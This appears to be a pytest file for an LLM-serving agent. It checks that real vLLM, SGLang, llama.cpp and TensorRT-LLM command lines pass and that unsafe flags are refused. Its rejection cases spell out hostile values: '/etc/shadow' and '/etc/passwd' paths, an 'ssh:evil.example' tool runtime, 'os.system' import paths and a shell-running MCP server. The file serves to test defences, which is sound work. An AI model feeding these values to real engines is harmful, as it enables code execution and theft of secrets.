"""The engines' flag tables (agent/flags): what real operators write passes, the holes stay shut."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.engines import CommandError, command_for
from agent.flags import (
    AGENT,
    ENGINES,
    REPO_ID_FLAGS,
    WORDS_ONLY,
    arg_problems,
    kinds,
    spelled,
    table,
    unsafe_env,
)

# Command lines from the engines' own documentation and common deployments.
REAL = [
    # vLLM: an MoE with expert and data parallelism (DeepSeek-V3 / Qwen3-MoE recipes).
    ("vllm", ["--enable-expert-parallel", "--data-parallel-size", "8", "--max-model-len", "32k",
              "--gpu-memory-utilization", "0.92"]),
    # vLLM: speculative decoding by n-gram lookup, and DeepSeek's MTP (no draft model to fetch).
    ("vllm", ["--speculative-config",
              '{"method": "ngram", "num_speculative_tokens": 5, "prompt_lookup_max": 4}']),
    ("vllm", ["--speculative-config", '{"method": "deepseek_mtp", "num_speculative_tokens": 1}']),
    # vLLM: a vision model (Qwen2.5-VL) limited to two images a prompt.
    ("vllm", ["--limit-mm-per-prompt", '{"image": 2, "video": 0}', "--max-model-len", "16384",
              "--mm-processor-kwargs", '{"max_pixels": 1003520}']),
    # vLLM: an embedding model (bge-m3) the way vLLM 0.10 takes it, and the way 0.33 does.
    ("vllm", ["--task", "embed", "--max-model-len", "8192"]),
    ("vllm", ["--runner", "pooling", "--convert", "embed"]),
    # vLLM: LoRA switched on, chunked prefill with partial prefills, tool calling.
    ("vllm", ["--enable-lora", "--max-lora-rank", "64", "--enable-chunked-prefill",
              "--max-num-partial-prefills", "2", "--enable-auto-tool-choice",
              "--tool-call-parser", "hermes"]),
    # vLLM reads --a_b as --a-b.
    ("vllm", ["--max_model_len", "4096", "--enforce-eager"]),
    # SGLang: DeepSeek with expert parallelism and EAGLE-style MTP speculative decoding.
    ("sglang", ["--ep-size", "8", "--speculative-algorithm", "EAGLE",
                "--speculative-num-steps", "3", "--speculative-eagle-topk", "1",
                "--speculative-num-draft-tokens", "4", "--mem-fraction-static", "0.8"]),
    # SGLang: an embedding model, and a vision model's chat template by its name.
    ("sglang", ["--is-embedding", "--context-length", "8192"]),
    ("sglang", ["--enable-multimodal", "--max-running-requests", "32"]),
    # llama.cpp: offload (-ngl / --n-gpu-layers), flash attention, a quantised cache.
    ("llamacpp", ["-ngl", "99", "-c", "8192", "-fa", "on", "--jinja"]),
    ("llamacpp", ["--n-gpu-layers", "35", "--cache-type-k", "q8_0", "--cache-type-v", "q8_0",
                  "--parallel", "4", "--cont-batching"]),
    ("llamacpp", ["--embedding", "--pooling", "cls", "--ubatch-size", "8192"]),
    ("llamacpp", ["--ctx_size", "4096"]),  # llama-server reads --a_b as --a-b too
    ("trtllm", ["--max_batch_size", "64", "--kv_cache_free_gpu_memory_fraction", "0.9",
                "--ep_size", "4", "--backend", "pytorch"]),
    ("sim", ["--fail-every", "3", "--ttft", "0.05"]),
    # vLLM: the model's generation defaults ignored, CUDA graphs at a compilation level,
    # a torch.compile backend by its name (not an import path).
    ("vllm", ["--generation-config", "vllm", "--compilation-config",
              '{"level": 3, "cudagraph_capture_sizes": [1, 2, 4, 8]}']),
    ("vllm", ["--compilation-config", '{"backend": "inductor"}', "--enable-sleep-mode"]),
    # llama.cpp: metrics and the slots endpoint, the web UI off.
    ("llamacpp", ["--metrics", "--slots", "--no-webui", "-ngl", "99"]),
    # SGLang: the experts where they are, the tokenizer of another repository.
    ("sglang", ["--init-expert-location", "trivial", "--tokenizer-path", "org/tok"]),
    # vLLM: the tokenizer of another repository, by its id (fetched as a source is).
    ("vllm", ["--tokenizer", "mistralai/Mistral-7B-Instruct-v0.3", "--tokenizer-mode",
              "mistral"]),
]  # fmt: skip


@pytest.mark.parametrize(("engine", "args"), REAL)
def test_real_command_lines_pass_and_reach_the_engine_as_written(engine: str, args) -> None:
    assert arg_problems(engine, args) == []
    replica = {"id": 1, "model": "m", "engine": engine, "cards": [0], "args": args}
    cmd = command_for(replica, 8000, "/w/m", {"llama-server": "llama-server"})
    assert cmd.argv[-len(args) :] == args


# The holes the allowlist closed, and what the issue found: each refused, saying why.
HOLES = [
    ("llamacpp", ["--log-file", "/etc/cron.d/x"], "names a file"),
    ("llamacpp", ["--mmproj", "/etc/shadow"], "names a file"),
    ("llamacpp", ["-hf", "org/repo"], "names a file"),
    ("llamacpp", ["--api-key", "k"], "sets what the agent sets"),
    ("llamacpp", ["--ctx-size", "2048", "--ctx-size", "999999999"], "given twice"),
    ("llamacpp", ["-c", "2048", "--ctx-size", "4096"], "given twice"),
    ("llamacpp", ["--jinja", "--no-jinja"], "given twice"),
    ("vllm", ["--api-key", "k"], "sets what the agent sets"),
    ("vllm", ["--ho", "0.0.0.0"], 'short for "--host'),
    ("vllm", ["--tensor-parallel", "2"], 'short for "--tensor-parallel-size"'),
    ("vllm", ["--download-dir", "/etc"], "names a file"),
    ("vllm", ["--speculative-config", '{"model": "org/eagle", "num_speculative_tokens": 3}'],
     '"model"'),
    ("vllm", ["--max-modle-len", "8k"], 'did you mean "--max-model-len"'),
    ("vllm", ["--middleware", "os.system"], "names a file"),
    ("sglang", ["--api-key", "k"], "sets what the agent sets"),
    ("sglang", ["--tp", "2"], 'short for "--tp-size"'),
    ("sglang", ["--max_running_requests", "8"], "not a flag"),
    ("trtllm", ["--tokenizer", "/"], "names a file"),
    ("sim", ["--api-key", "k"], "sets what the agent sets"),
    # What runs code, opens a tool endpoint, widens who may call, or fetches weights elsewhere.
    ("llamacpp", ["--tools", "all"], "/tools endpoint, which runs shell commands"),
    ("llamacpp", ["--tools", "read_file"], "/tools endpoint"),
    ("llamacpp", ["--tools-runtime", "ssh:evil.example"], "ssh:HOST"),
    ("llamacpp", ["--cors-origins", "*"], "widens who may call the engine"),
    ("llamacpp", ["--cors-credentials"], "widens who may call the engine"),
    ("llamacpp", ["--mcp-servers-json", '{"x": {"command": "sh"}}'], "MCP servers"),
    ("llamacpp", ["--webui-mcp-proxy"], "proxy endpoint"),
    ("llamacpp", ["--fim-qwen-7b-default"], "downloads a fixed model"),
    ("vllm", ["--trust-remote-code"], "trust_remote_code: true"),
    ("vllm", ["--no-trust-remote-code"], "trust_remote_code: true"),
    ("sglang", ["--trust-remote-code"], "trust_remote_code: true"),
    ("trtllm", ["--trust_remote_code"], "trust_remote_code: true"),
    ("vllm", ["--grpc"], "without the replica's key"),
    ("vllm", ["--allow-credentials"], "widens who may call the engine"),
    ("vllm", ["--allowed-origins", "*"], "names a file"),
    ("vllm", ["--logits-processor-pattern", ".*"], "import or run code"),
    ("vllm", ["--trust-request-chat-template"], "chat template"),
    ("vllm", ["--enable-prompt-embeds"], "torch.load"),
    ("vllm", ["--code-revision", "main"], "model code"),
    ("vllm", ["--generation-config", "/etc"], "may be auto or vllm"),
    ("vllm", ["--compilation-config", '{"backend": "os.system"}'], "import path"),
    ("vllm", ["--compilation-config", "/tmp/c.json"], "names a file"),
    ("vllm", ["--default-mm-loras", '{"image": "/tmp/lora"}'], "names a file"),
    ("vllm", ["--tokenizer", "/etc/passwd"], "repository id"),
    ("vllm", ["--tokenizer", "https://evil.example/tok"], "repository id"),
    ("vllm", ["--tokenizer=org/../etc"], "repository id"),
    ("sglang", ["--tokenizer-path", "../x"], "repository id"),
    ("sglang", ["--enable-custom-logit-processor"], "serialised logit processor"),
    ("sglang", ["--forward-hooks", '[{"hook_factory": "os:system"}]'], "hook factories"),
    ("sglang", ["--custom-weight-loader", "os.system"], "loaders"),
    ("sglang", ["--grpc-mode"], "without the replica's key"),
    ("sglang", ["--modelexpress-config", '{"url": "x"}'], "where the engine's weights come"),
    ("sglang", ["--speculative-token-map", "/etc/x"], "names a file"),
    ("sglang", ["--init-expert-location", "/etc/x.json"], "may be trivial"),
]  # fmt: skip


@pytest.mark.parametrize(("engine", "args", "says"), HOLES)
def test_holes_stay_closed_at_the_rules_and_the_agent(engine: str, args, says: str) -> None:
    problems = arg_problems(engine, args)
    assert problems and says in problems[0], problems
    replica = {"id": 1, "model": "m", "engine": engine, "cards": [0], "args": args}
    with pytest.raises(CommandError):
        command_for(replica, 8000, "/w/m", {})


@pytest.mark.parametrize(
    ("engine", "key", "ok"),
    [
        ("vllm", "OMP_PROC_BIND", True),
        ("llamacpp", "LLAMA_ARG_N_GPU_LAYERS", True),
        ("llamacpp", "LLAMA_API_KEY", False),
        ("llamacpp", "LLAMA_ARG_MODEL", False),
        ("llamacpp", "LLAMA_ARG_LOG_FILE", False),
        ("vllm", "VLLM_API_KEY", False),
        ("vllm", "VLLM_PLUGINS", False),
        ("vllm", "VLLM_ATTENTION_BACKEND", True),
        ("sglang", "SGLANG_ENABLE_TORCH_INFERENCE_MODE", True),
        ("sim", "LLMGW_SIM_API_KEY", False),
        ("llamacpp", "LLAMA_ARG_TOOLS", False),
        ("llamacpp", "LLAMA_ARG_TOOLS_RUNTIME", False),
        ("llamacpp", "LLAMA_ARG_CORS_ORIGINS", False),
        ("llamacpp", "LLAMA_ARG_MCP_SERVERS_JSON", False),
        ("vllm", "VLLM_ALLOW_INSECURE_SERIALIZATION", False),
        ("vllm", "VLLM_USE_MODELSCOPE", False),
        ("sglang", "SGLANG_USE_MODELSCOPE", False),
        ("vllm", "VLLM_ALLOW_RUNTIME_LORA_UPDATING", False),
        ("vllm", "VLLM_SERVER_DEV_MODE", False),
        ("vllm", "PYTHONWARNINGS", False),
        ("vllm", "PYTHONBREAKPOINT", False),
        ("vllm", "PYTHONHASHSEED", True),
        ("vllm", "BASH_ENV", False),
        ("vllm", "NODE_OPTIONS", False),
        ("vllm", "HF_HUB_TRUST_REMOTE_CODE", False),
    ],
)
def test_engine_variables(engine: str, key: str, ok: bool) -> None:
    assert (unsafe_env(key, engine, "1") is None) is ok


def test_llama_server_gets_flag_equals_value_split_in_two() -> None:
    # llama-server does not read --flag=value; the rules say so, and spelled() splits it.
    assert "two arguments" in arg_problems("llamacpp", ["--ctx-size=2048"])[0]
    assert spelled("llamacpp", ["--ctx-size=2048", "--jinja"]) == ["--ctx-size", "2048", "--jinja"]
    assert spelled("vllm", ["--max-model-len=2048"]) == ["--max-model-len=2048"]


def test_each_table_says_where_it_came_from() -> None:
    for engine in ENGINES:
        t = table(engine)
        assert t.versions and t.source, engine
        # The agent's own flags are in the table (a renamed one would silently pass).
        for flag in AGENT[engine]:
            assert t.flag(flag) is not None, (engine, flag)


def _allowed(engine: str) -> list[str]:
    t = table(engine)
    refused = kinds(engine)
    return sorted({f.names[0] for n, f in t.flags.items() if n not in refused})


@st.composite
def _allowed_line(draw: st.DrawFn) -> tuple[str, list[str]]:
    engine = draw(st.sampled_from(ENGINES))
    names = draw(st.lists(st.sampled_from(_allowed(engine)), max_size=6, unique=True))
    t = table(engine)
    args: list[str] = []
    for name in names:
        flag = t.flags[name]
        args.append(name)
        if name in WORDS_ONLY.get(engine, {}):  # a value from its own words
            args.append(min(WORDS_ONLY[engine][name]))
            continue
        if name in REPO_ID_FLAGS.get(engine, ()):  # a repository id, as operators write
            args.append("Qwen/Qwen3-8B")
            continue
        args += {"none": [], "one": ["1"], "optional": [], "many": ["1", "2"], "two": ["a", "b"]}[
            flag.value
        ]
    return engine, args


@settings(max_examples=300, deadline=None)
@given(_allowed_line())
def test_any_line_of_allowed_flags_passes(case) -> None:
    engine, args = case
    assert arg_problems(engine, args) == []


@settings(max_examples=300, deadline=None)
@given(engine=st.sampled_from(ENGINES), data=st.data())
def test_any_refused_name_or_its_prefix_is_refused(engine: str, data) -> None:
    refused = sorted(kinds(engine))
    name = data.draw(st.sampled_from(refused))
    cut = name[: data.draw(st.integers(2, len(name)))]
    t = table(engine)
    exact = t.flag(cut)
    if exact is not None and cut not in kinds(engine):
        return  # a prefix that is itself another, allowed, flag
    assert arg_problems(engine, [cut, "x"]) != []


@settings(max_examples=200, deadline=None)
@given(engine=st.sampled_from(ENGINES), data=st.data())
def test_any_allowed_flag_given_twice_is_refused_unless_it_repeats(engine: str, data) -> None:
    name = data.draw(st.sampled_from(_allowed(engine)))
    flag = table(engine).flags[name]
    value = {"none": [], "one": ["1"], "optional": [], "many": ["1"], "two": ["a", "b"]}[flag.value]
    line = [name, *value, flag.names[-1], *value]
    assert (arg_problems(engine, line) == []) is flag.repeat


def test_tables_are_well_formed() -> None:
    from agent.flags import _HERE

    for engine in ENGINES:
        data = json.loads((_HERE / f"{engine}.json").read_text(encoding="utf-8"))
        for f in data["flags"]:
            assert f["value"] in ("none", "one", "optional", "many", "two"), f
            assert all(n.startswith("-") for n in f["names"]), f


@pytest.mark.parametrize("engine", ENGINES)
def test_no_engine_may_be_handed_another_key(engine: str) -> None:
    from agent.engines import KEY_ENV, KEY_FLAGS

    for flag in KEY_FLAGS:
        assert arg_problems(engine, [flag, "k"]), (engine, flag)
    for key in KEY_ENV:
        assert unsafe_env(key, engine, "k") is not None, (engine, key)


@pytest.mark.parametrize(
    ("engine", "flag"),
    [("vllm", "--trust-remote-code"), ("sglang", "--trust-remote-code"),
     ("trtllm", "--trust_remote_code")],
)  # fmt: skip
def test_the_agent_runs_a_models_code_only_when_the_catalog_says_so(engine: str, flag: str) -> None:
    replica = {"id": 1, "model": "m", "engine": engine, "cards": [0], "args": []}
    assert flag not in command_for(replica, 8000, "/w/m", {}).argv
    trusted = command_for({**replica, "trust_remote_code": True}, 8000, "/w/m", {})
    assert trusted.argv.count(flag) == 1


def test_llama_server_is_never_given_a_trust_flag() -> None:
    replica = {"id": 1, "model": "m", "engine": "llamacpp", "cards": [], "args": [],
               "trust_remote_code": True}  # fmt: skip
    argv = command_for(replica, 8000, "/w/m.gguf", {"llama-server": "llama-server"}).argv
    assert not any("trust" in a for a in argv)


@pytest.mark.parametrize(
    ("engine", "flag"), [("vllm", "--tokenizer"), ("sglang", "--tokenizer-path")]
)
def test_a_tokenizer_naming_the_models_own_source_is_its_local_copy(engine: str, flag: str) -> None:
    replica = {"id": 1, "model": "m", "engine": engine, "cards": [0], "source": "org/m",
               "args": [flag, "org/m"]}  # fmt: skip
    argv = command_for(replica, 8000, "/w/m", {}).argv
    assert argv[-2:] == [flag, "/w/m"]
    other = command_for({**replica, "args": [flag, "org/tok"]}, 8000, "/w/m", {}).argv
    assert other[-2:] == [flag, "org/tok"]
    equals = command_for({**replica, "args": [f"{flag}=org/m"]}, 8000, "/w/m", {}).argv
    assert equals[-1] == f"{flag}=/w/m"
